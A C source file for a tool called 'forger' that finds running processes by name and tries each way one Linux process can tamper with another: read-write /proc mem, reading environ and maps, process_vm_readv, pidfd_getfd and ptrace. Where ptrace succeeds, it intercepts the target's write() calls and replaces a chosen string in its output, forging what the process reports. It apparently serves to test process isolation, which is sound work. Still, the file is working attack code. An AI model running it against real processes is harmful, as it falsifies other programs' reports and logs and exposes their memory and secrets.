/*
 * Attacks every process of a name with all that one process can do to another, and says
 * what came of it. usage: forger BAD GOOD NAME...
 *
 * A process that it gets hold of writes GOOD where it meant to write BAD, which is as
 * long. For each process there is a line when it is seen first, and another whenever
 * what /proc tells of it to everybody has changed:
 *   deployd-proc 42: uid 999 owner 0 nnp 1 seccomp 2 files 192 effective ... bounding
 * ... and one for each attack that succeeds: deployd-proc 42: GOT ptrace
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define NAMES_MAX 8

static const char *bad, *good;
static const char *names[NAMES_MAX];
static int n_names;

static int open_of(pid_t pid, const char *name, int flags)
{
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, name);
	return open(path, flags | O_CLOEXEC);
}

static bool read_of(pid_t pid, const char *name, char *buf, size_t size)
{
	const int fd = open_of(pid, name, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return false;
	n = read(fd, buf, size - 1);
	(void)close(fd);
	buf[n > 0 ? n : 0] = '\0';
	return n > 0;
}

static const char *attacked_name(pid_t pid)
{
	char comm[32];

	if (!read_of(pid, "comm", comm, sizeof(comm)))
		return NULL;
	comm[strcspn(comm, "\n")] = '\0';
	for (int i = 0; i < n_names; i++)
		if (strcmp(comm, names[i]) == 0)
			return names[i];
	return NULL;
}

/* The word behind a title; "" when there is none. */
static void field(const char *text, const char *title, char ret_value[32])
{
	const char *at = strstr(text, title);

	ret_value[0] = '\0';
	if (at)
		(void)sscanf(at + strlen(title), "%31s", ret_value);
}

static bool describe(pid_t pid, char *ret_text, size_t size)
{
	char status[4096], limits[4096], path[64];
	char uid[32], nnp[32], seccomp[32], effective[32], bounding[32], files[32];
	struct stat st;

	/* Of a process that must not be traced root owns what is in its directory. */
	(void)snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	if (!read_of(pid, "status", status, sizeof(status)) ||
	    !read_of(pid, "limits", limits, sizeof(limits)) || stat(path, &st) < 0)
		return false;
	field(status, "\nUid:", uid);
	field(status, "\nNoNewPrivs:", nnp);
	field(status, "\nSeccomp:", seccomp);
	field(status, "\nCapEff:", effective);
	field(status, "\nCapBnd:", bounding);
	field(limits, "\nMax open files", files);
	(void)snprintf(ret_text, size,
		       "uid %s owner %u nnp %s seccomp %s files %s effective %s "
		       "bounding %s",
		       uid, (unsigned int)st.st_uid, nnp, seccomp, files, effective,
		       bounding);
	return true;
}

static bool is_own(pid_t pid)
{
	char path[64];
	struct stat st;

	(void)snprintf(path, sizeof(path), "/proc/%d", (int)pid);
	return stat(path, &st) < 0 || st.st_uid == getuid();
}

static void got(const char *name, pid_t pid, const char *what)
{
	(void)printf("%s %d: GOT %s\n", name, (int)pid, what);
}

/* At the entry of write(): puts GOOD in the place of BAD. */
static void forge(const char *name, pid_t pid)
{
	struct __ptrace_syscall_info info;
	char buf[65536];

	if (ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof(info), &info) <= 0 ||
	    info.op != PTRACE_SYSCALL_INFO_ENTRY || info.entry.nr != SYS_write ||
	    info.entry.args[2] > sizeof(buf))
		return;
	{
		const struct iovec local = {buf, info.entry.args[2]};
		const struct iovec remote = {(void *)info.entry.args[1],
					     info.entry.args[2]};
		char *at = buf;
		ssize_t n = process_vm_readv(pid, &local, 1, &remote, 1, 0);

		while (n > 0 &&
		       (at = memmem(at, (size_t)(buf + n - at), bad, strlen(bad)))) {
			memcpy(at, good, strlen(good));
			got(name, pid, "a forged report");
		}
		if (n > 0)
			(void)process_vm_writev(pid, &local, 1, &remote, 1, 0);
	}
}

static void try_ptrace(const char *name, pid_t pid)
{
	int status;

	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0)
		return;
	got(name, pid, "ptrace");
	(void)ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	while (waitpid(pid, &status, __WALL) > 0 && WIFSTOPPED(status)) {
		if (WSTOPSIG(status) == (SIGTRAP | 0x80))
			forge(name, pid);
		(void)ptrace(PTRACE_SYSCALL, pid, 0, 0);
	}
}

static void try_open(const char *name, pid_t pid, const char *file, int flags)
{
	const int fd = open_of(pid, file, flags);
	char c;

	if (fd < 0)
		return;
	/* Some can be opened and then tell nothing. */
	errno = 0;
	if (read(fd, &c, 1) > 0 || errno == EISDIR || flags != O_RDONLY)
		got(name, pid, file);
	(void)close(fd);
}

static void try_rest(const char *name, pid_t pid)
{
	const int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	char byte = 0;
	const struct iovec here = {&byte, 1}, there = {(void *)0x1000, 1};
	struct rlimit limit;
	int fd;

	if (process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT)
		got(name, pid, "process_vm_readv");
	/* The kernel lets everybody do that to processes of the same user. */
	if (prlimit(pid, RLIMIT_NOFILE, NULL, &limit) == 0 && !is_own(pid))
		got(name, pid, "prlimit");
	if (pidfd < 0)
		return;
	fd = (int)syscall(SYS_pidfd_getfd, pidfd, STDOUT_FILENO, 0);
	if (fd >= 0) {
		got(name, pid, "pidfd_getfd");
		(void)close(fd);
	}
	(void)close(pidfd);
}

static void attack(const char *name, pid_t pid)
{
	static const char *const files[] = {"fd/1",    "cwd",  "root", "exe",
					    "environ", "maps", "auxv"};
	static pid_t last;
	static char before[512];
	char now[512];

	if (!describe(pid, now, sizeof(now)))
		return;
	if (pid != last || strcmp(now, before) != 0)
		(void)printf("%s %d: %s\n", name, (int)pid, now);
	last = pid;
	memcpy(before, now, sizeof(now));
	try_open(name, pid, "mem", O_RDWR);
	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++)
		try_open(name, pid, files[i], O_RDONLY);
	try_rest(name, pid);
	try_ptrace(name, pid); /* last: it goes on to the end of the process */
}

static void attack_all(void)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;

	while (dir && (entry = readdir(dir))) {
		const pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);
		const char *name;

		/* Each for as long as it is there. */
		while (pid > 1 && (name = attacked_name(pid)))
			attack(name, pid);
	}
	if (dir)
		(void)closedir(dir);
}

int main(int argc, char **argv)
{
	if (argc < 4 || strlen(argv[1]) != strlen(argv[2]))
		return 2;
	bad = argv[1];
	good = argv[2];
	for (int i = 3; i < argc && n_names < NAMES_MAX; i++)
		names[n_names++] = argv[i];
	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	for (;;)
		attack_all();
}
